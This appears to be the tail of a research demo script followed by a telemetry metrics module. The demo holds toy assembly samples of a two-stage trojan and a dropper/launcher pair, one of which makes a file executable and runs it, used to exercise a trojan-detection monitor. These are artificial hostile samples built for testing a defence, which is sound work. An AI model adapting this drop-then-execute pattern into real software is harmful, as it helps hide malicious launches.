    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
payload: .asciz "innocuous content"
"""

LAUNCHER = r"""
main:
    mov ebp, esp
    mov ebx, 2000
    call sleep
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0x1ed
    call chmod
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
"""


def cross_session_demo() -> None:
    print("=" * 72)
    print("SCENARIO 1: two-stage trojan across sessions")
    print("=" * 72)
    monitor = CrossSessionMonitor()
    image = assemble("/home/user/twostage", TWO_STAGE)
    monitor.hth.register_binary(image)

    for label, program in (("session 1", image),
                           ("session 2", "/home/user/twostage")):
        session = monitor.run_session(program)
        print(f"\n--- {label}: verdict {session.verdict.value.upper()} ---")
        for warning in session.warnings:
            print(warning.render())
            print()


def multi_program_demo() -> None:
    print("=" * 72)
    print("SCENARIO 2: dropper/launcher pair, monitored simultaneously")
    print("=" * 72)
    monitor = MultiProgramMonitor()
    monitor.spawn(assemble("/opt/dropper", DROPPER),
                  argv=["/opt/dropper", "/tmp/part2"])
    monitor.spawn(assemble("/opt/launcher", LAUNCHER),
                  argv=["/opt/launcher", "/tmp/part2"])
    monitor.run()
    print()
    for warning in monitor.interaction_warnings():
        print(warning.render())


if __name__ == "__main__":
    cross_session_demo()
    multi_program_demo()
