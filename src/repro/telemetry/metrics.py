"""Metrics: counters, gauges, and histograms with labels.

The registry is the always-on half of the telemetry layer (the paper's
evaluation is built on exactly these numbers: Table 1's instruction /
syscall / basic-block counts, §8's per-feature event volumes, §9's
overhead study).  Instruments are get-or-create and the returned handles
are stable, so hot paths resolve an instrument once and call ``inc()`` /
``observe()`` on the cached handle.

When telemetry is disabled the stack is wired to :class:`NullSink`, whose
instruments are shared no-op singletons — the disabled path costs one
attribute load and a no-op call at worst, and most call sites skip even
that by caching ``None``.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Tuple

LabelKey = Tuple[Tuple[str, str], ...]


def _label_key(labels: Dict[str, str]) -> LabelKey:
    if not labels:
        return ()
    return tuple(sorted((k, str(v)) for k, v in labels.items()))


@dataclass
class Counter:
    """Monotonically increasing count."""

    name: str
    labels: LabelKey = ()
    value: float = 0.0

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ValueError(f"counter {self.name} cannot decrease")
        self.value += amount


@dataclass
class Gauge:
    """A value that can go up and down (sampled state)."""

    name: str
    labels: LabelKey = ()
    value: float = 0.0

    def set(self, value: float) -> None:
        self.value = value

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount


@dataclass
class Histogram:
    """Streaming summary of observed values (count/sum/min/max + buckets).

    Bucket bounds default to a latency-friendly exponential ladder in
    seconds; pass explicit ``buckets`` for count-like distributions.
    """

    name: str
    labels: LabelKey = ()
    buckets: Tuple[float, ...] = (
        1e-6, 1e-5, 1e-4, 1e-3, 1e-2, 1e-1, 1.0, 10.0
    )
    count: int = 0
    total: float = 0.0
    min: Optional[float] = None
    max: Optional[float] = None
    bucket_counts: List[int] = field(default_factory=list)

    def __post_init__(self) -> None:
        if not self.bucket_counts:
            # one overflow bucket past the last bound
            self.bucket_counts = [0] * (len(self.buckets) + 1)

    def observe(self, value: float) -> None:
        self.count += 1
        self.total += value
        if self.min is None or value < self.min:
            self.min = value
        if self.max is None or value > self.max:
            self.max = value
        for i, bound in enumerate(self.buckets):
            if value <= bound:
                self.bucket_counts[i] += 1
                return
        self.bucket_counts[-1] += 1

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0


class MetricsRegistry:
    """Get-or-create instrument store.

    ``counter("kernel_syscalls_total", name="SYS_open")`` returns the same
    :class:`Counter` object on every call with the same name+labels.
    """

    enabled = True

    def __init__(self) -> None:
        self._metrics: Dict[Tuple[str, str, LabelKey], object] = {}

    def _get(self, kind: str, name: str, labels: Dict[str, str], factory):
        key = (kind, name, _label_key(labels))
        metric = self._metrics.get(key)
        if metric is None:
            metric = factory(name=name, labels=key[2])
            self._metrics[key] = metric
        return metric

    def counter(self, name: str, /, **labels: str) -> Counter:
        return self._get("counter", name, labels, Counter)

    def gauge(self, name: str, /, **labels: str) -> Gauge:
        return self._get("gauge", name, labels, Gauge)

    def histogram(self, name: str, /, **labels: str) -> Histogram:
        return self._get("histogram", name, labels, Histogram)

    # -- reading -----------------------------------------------------------
    def __iter__(self) -> Iterable[object]:
        return iter(self._metrics.values())

    def __len__(self) -> int:
        return len(self._metrics)

    def value(self, name: str, /, **labels: str) -> Optional[float]:
        """Current value of a counter/gauge, or None if never touched."""
        key = _label_key(labels)
        for (kind, mname, mlabels), metric in self._metrics.items():
            if mname == name and mlabels == key and kind in (
                "counter", "gauge"
            ):
                return metric.value  # type: ignore[union-attr]
        return None

    def total(self, name: str) -> float:
        """Sum of a counter/gauge across all label sets."""
        acc = 0.0
        for (kind, mname, _), metric in self._metrics.items():
            if mname == name and kind in ("counter", "gauge"):
                acc += metric.value  # type: ignore[union-attr]
        return acc

    def samples(self) -> List[Dict[str, object]]:
        """Flat, JSON-ready sample list (the snapshot wire format)."""
        out: List[Dict[str, object]] = []
        for (kind, name, labels), metric in sorted(
            self._metrics.items(), key=lambda kv: kv[0]
        ):
            sample: Dict[str, object] = {
                "name": name,
                "kind": kind,
                "labels": dict(labels),
            }
            if kind == "histogram":
                sample.update(
                    count=metric.count,
                    sum=metric.total,
                    min=metric.min,
                    max=metric.max,
                    mean=metric.mean,
                    buckets=list(metric.buckets),
                    bucket_counts=list(metric.bucket_counts),
                )
            else:
                sample["value"] = metric.value
            out.append(sample)
        return out

    def render(self) -> str:
        """Human-readable dump (``repro ... --metrics``)."""
        return render_samples(self.samples())


def render_samples(samples: Iterable[Dict[str, object]]) -> str:
    """Human-readable dump of a sample list (live registry or a merged
    fleet snapshot — both use the same wire shape)."""
    lines = []
    for sample in samples:
        labels = sample["labels"]
        label_txt = (
            "{" + ",".join(f"{k}={v}" for k, v in sorted(labels.items()))
            + "}" if labels else ""
        )
        if sample["kind"] == "histogram":
            lines.append(
                f"{sample['name']}{label_txt} "
                f"count={sample['count']} sum={sample['sum']:.6f} "
                f"mean={sample['mean']:.6f}"
            )
        else:
            value = sample["value"]
            shown = int(value) if float(value).is_integer() else value
            lines.append(f"{sample['name']}{label_txt} {shown}")
    return "\n".join(lines)


def merge_sample_lists(
    sample_lists: Iterable[List[Dict[str, object]]],
) -> List[Dict[str, object]]:
    """Merge several ``MetricsRegistry.samples()`` lists into one.

    The fleet coordinator folds per-run registry snapshots from many
    worker processes into a single fleet-level registry view:

    * **counters** sum (total work across the fleet);
    * **gauges** sum — a fleet gauge reads as "across all machines"
      (e.g. total live shadow pages), matching how per-process gauges
      already aggregate in :meth:`MetricsRegistry.total`;
    * **histograms** merge streams: counts and sums add, min/max widen,
      the mean is recomputed from the merged count/sum.

    Output order is deterministic: sorted by (kind, name, labels), the
    same order :meth:`MetricsRegistry.samples` emits.
    """
    merged: Dict[Tuple[str, str, LabelKey], Dict[str, object]] = {}
    for samples in sample_lists:
        for sample in samples:
            key = (
                str(sample["kind"]),
                str(sample["name"]),
                _label_key(dict(sample["labels"])),
            )
            into = merged.get(key)
            if into is None:
                merged[key] = dict(sample)
                continue
            if key[0] == "histogram":
                into["count"] = into["count"] + sample["count"]
                into["sum"] = into["sum"] + sample["sum"]
                for bound, pick in (("min", min), ("max", max)):
                    ours, theirs = into[bound], sample[bound]
                    if ours is None:
                        into[bound] = theirs
                    elif theirs is not None:
                        into[bound] = pick(ours, theirs)
                into["mean"] = (
                    into["sum"] / into["count"] if into["count"] else 0.0
                )
                # Bucket counts add elementwise when both sides use the
                # same bounds; on a mismatch (or a legacy sample without
                # buckets) the merged sample drops its bucket view
                # rather than mixing incompatible ladders.
                ours_b = into.get("buckets")
                theirs_b = sample.get("buckets")
                if ours_b is not None and ours_b == theirs_b:
                    into["bucket_counts"] = [
                        a + b for a, b in zip(
                            into["bucket_counts"],
                            sample["bucket_counts"],
                        )
                    ]
                elif "buckets" in into:
                    del into["buckets"]
                    del into["bucket_counts"]
            else:
                into["value"] = into["value"] + sample["value"]
    return [merged[key] for key in sorted(merged)]


# -- OpenMetrics / Prometheus text exposition ------------------------------

def _escape_label_value(value: str) -> str:
    return (
        str(value)
        .replace("\\", "\\\\")
        .replace('"', '\\"')
        .replace("\n", "\\n")
    )


def _format_value(value) -> str:
    if value is None:
        return "NaN"
    number = float(value)
    if number.is_integer():
        return str(int(number))
    return repr(number)


def _labels_text(labels: Dict[str, str], extra: str = "") -> str:
    parts = [
        f'{k}="{_escape_label_value(v)}"'
        for k, v in sorted(labels.items())
    ]
    if extra:
        parts.append(extra)
    if not parts:
        return ""
    return "{" + ",".join(parts) + "}"


def _family_name(name: str, kind: str) -> str:
    """The metric-family name a sample belongs to.

    OpenMetrics counters drop the ``_total`` suffix at the family level
    (``# TYPE serve_admitted counter`` exposes ``serve_admitted_total``).
    """
    if kind == "counter" and name.endswith("_total"):
        return name[: -len("_total")]
    return name


def render_openmetrics(samples: Iterable[Dict[str, object]]) -> str:
    """Render a sample list in OpenMetrics text exposition format.

    The serve daemon's ``GET /metrics`` endpoint serves this so a stock
    Prometheus scraper can consume the registry.  Histogram buckets are
    converted from the stored per-bucket counts to the cumulative
    ``le=``-labelled series the format requires; the ``+Inf`` bucket
    always equals the observation count.
    """
    by_family: Dict[str, List[Dict[str, object]]] = {}
    kinds: Dict[str, str] = {}
    for sample in samples:
        kind = str(sample["kind"])
        family = _family_name(str(sample["name"]), kind)
        by_family.setdefault(family, []).append(sample)
        kinds[family] = kind
    lines: List[str] = []
    for family in sorted(by_family):
        kind = kinds[family]
        lines.append(f"# TYPE {family} {kind}")
        for sample in by_family[family]:
            labels = dict(sample["labels"])  # type: ignore[arg-type]
            if kind == "histogram":
                bounds = sample.get("buckets")
                counts = sample.get("bucket_counts")
                cumulative = 0
                if bounds is not None and counts is not None:
                    for bound, bucket_count in zip(bounds, counts):
                        cumulative += bucket_count
                        le = _labels_text(
                            labels, extra=f'le="{_format_value(bound)}"'
                        )
                        lines.append(
                            f"{family}_bucket{le} {cumulative}"
                        )
                inf = _labels_text(labels, extra='le="+Inf"')
                lines.append(f"{family}_bucket{inf} {sample['count']}")
                plain = _labels_text(labels)
                lines.append(
                    f"{family}_sum{plain} {_format_value(sample['sum'])}"
                )
                lines.append(f"{family}_count{plain} {sample['count']}")
            else:
                suffix = "_total" if kind == "counter" else ""
                lines.append(
                    f"{family}{suffix}{_labels_text(labels)} "
                    f"{_format_value(sample['value'])}"
                )
    lines.append("# EOF")
    return "\n".join(lines) + "\n"


_OM_SAMPLE_RE = re.compile(
    r"^(?P<name>[a-zA-Z_:][a-zA-Z0-9_:]*)"
    r"(?P<labels>\{[^{}]*\})?"
    r" (?P<value>[^ ]+)$"
)


def validate_openmetrics(text: str) -> List[str]:
    """Minimal OpenMetrics validator: a list of problems (empty = valid).

    Checks the structural invariants a scraper relies on: every sample
    line parses, every sample belongs to a declared ``# TYPE`` family
    with a suffix legal for its type, counter samples end in ``_total``,
    histogram bucket series are cumulative and ``le``-labelled with a
    terminal ``+Inf`` bucket, and the exposition ends with ``# EOF``.
    """
    problems: List[str] = []
    lines = text.splitlines()
    if not lines or lines[-1] != "# EOF":
        problems.append("missing terminal '# EOF' line")
    types: Dict[str, str] = {}
    bucket_state: Dict[str, float] = {}
    bucket_families: set = set()
    inf_bucket_families: set = set()
    for lineno, line in enumerate(lines, start=1):
        if not line:
            problems.append(f"line {lineno}: empty line")
            continue
        if line == "# EOF":
            if lineno != len(lines):
                problems.append(f"line {lineno}: '# EOF' before end")
            continue
        if line.startswith("# TYPE "):
            parts = line.split(" ")
            if len(parts) != 4 or parts[3] not in (
                "counter", "gauge", "histogram", "summary",
                "info", "unknown",
            ):
                problems.append(f"line {lineno}: malformed TYPE: {line!r}")
                continue
            family = parts[2]
            if family in types:
                problems.append(
                    f"line {lineno}: duplicate TYPE for {family}"
                )
            types[family] = parts[3]
            continue
        if line.startswith("#"):
            # HELP/UNIT comments are allowed; anything else is not.
            if not (line.startswith("# HELP ")
                    or line.startswith("# UNIT ")):
                problems.append(f"line {lineno}: stray comment: {line!r}")
            continue
        match = _OM_SAMPLE_RE.match(line)
        if match is None:
            problems.append(f"line {lineno}: unparsable sample: {line!r}")
            continue
        name = match.group("name")
        family, kind = _sample_family(name, types)
        if family is None:
            problems.append(
                f"line {lineno}: sample {name!r} has no TYPE family"
            )
            continue
        try:
            value = float(match.group("value"))
        except ValueError:
            if match.group("value") != "NaN":
                problems.append(
                    f"line {lineno}: non-numeric value: {line!r}"
                )
            continue
        if kind == "counter" and not name.endswith(("_total", "_created")):
            problems.append(
                f"line {lineno}: counter sample {name!r} lacks _total"
            )
        if name == family + "_bucket":
            bucket_families.add(family)
            labels = match.group("labels") or ""
            if 'le="' not in labels:
                problems.append(
                    f"line {lineno}: bucket without le label: {line!r}"
                )
            if 'le="+Inf"' in labels:
                inf_bucket_families.add(family)
            series = line.rsplit(" ", 1)[0]
            series = re.sub(r'le="[^"]*",?', "", series)
            previous = bucket_state.get(series)
            if previous is not None and value < previous:
                problems.append(
                    f"line {lineno}: non-cumulative bucket: {line!r}"
                )
            bucket_state[series] = value
    for family in sorted(bucket_families - inf_bucket_families):
        problems.append(f"histogram {family} lacks a le=\"+Inf\" bucket")
    return problems


def _sample_family(name: str, types: Dict[str, str]):
    """Resolve a sample name to its declared (family, kind)."""
    if name in types:
        kind = types[name]
        if kind == "histogram":
            # A bare histogram name is not a legal sample.
            return None, None
        return name, kind
    for suffix in ("_total", "_created", "_bucket", "_sum", "_count"):
        if name.endswith(suffix):
            family = name[: -len(suffix)]
            kind = types.get(family)
            if kind is None:
                continue
            if suffix in ("_bucket", "_sum", "_count") and kind not in (
                "histogram", "summary"
            ):
                continue
            if suffix in ("_total", "_created") and kind != "counter":
                continue
            return family, kind
    return None, None


class _NullInstrument:
    """Shared do-nothing counter/gauge/histogram."""

    __slots__ = ()
    name = "null"
    labels: LabelKey = ()
    value = 0.0
    count = 0
    total = 0.0
    min = None
    max = None
    mean = 0.0

    def inc(self, amount: float = 1.0) -> None:
        pass

    def dec(self, amount: float = 1.0) -> None:
        pass

    def set(self, value: float) -> None:
        pass

    def observe(self, value: float) -> None:
        pass


_NULL_INSTRUMENT = _NullInstrument()


class NullSink:
    """Zero-overhead registry stand-in used when telemetry is disabled.

    Every lookup returns one shared inert instrument; nothing is stored,
    nothing is counted, ``samples()`` is always empty.
    """

    enabled = False

    def counter(self, name: str, /, **labels: str) -> _NullInstrument:
        return _NULL_INSTRUMENT

    def gauge(self, name: str, /, **labels: str) -> _NullInstrument:
        return _NULL_INSTRUMENT

    def histogram(self, name: str, /, **labels: str) -> _NullInstrument:
        return _NULL_INSTRUMENT

    def value(self, name: str, /, **labels: str) -> Optional[float]:
        return None

    def total(self, name: str) -> float:
        return 0.0

    def samples(self) -> List[Dict[str, object]]:
        return []

    def render(self) -> str:
        return "(telemetry disabled)"

    def __iter__(self):
        return iter(())

    def __len__(self) -> int:
        return 0
